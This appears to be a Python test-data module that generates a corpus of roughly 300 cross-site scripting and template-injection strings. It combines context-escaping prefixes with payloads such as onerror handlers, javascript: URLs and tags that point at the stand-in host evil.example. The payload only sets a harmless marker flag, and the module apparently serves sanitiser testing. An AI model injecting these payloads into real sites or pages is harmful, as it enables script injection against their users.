"""Three hundred texts that want to be more than text: ways to run a script × ways out of where a text stands."""

from __future__ import annotations

from itertools import product

RUN = "window.broken=1"
VECTORS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<math><mtext><script>{RUN}</script>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    f"<object data='javascript:{RUN}'>",
    f"<x onclick={RUN} style=position:fixed;inset:0>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "{counter}{floor}{{7*7}}${7*7}%(x)s",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
)
BREAKS = (
    *("", '">', "'>", "-->", "]]>", "</textarea>", "</title>", "</script>"),
    *("\\", "\\u003c", "`", '";', "A\u202eB ", "\u2028", "{words}"),
)
CORPUS = [before + vector for before, vector in product(BREAKS, VECTORS)]
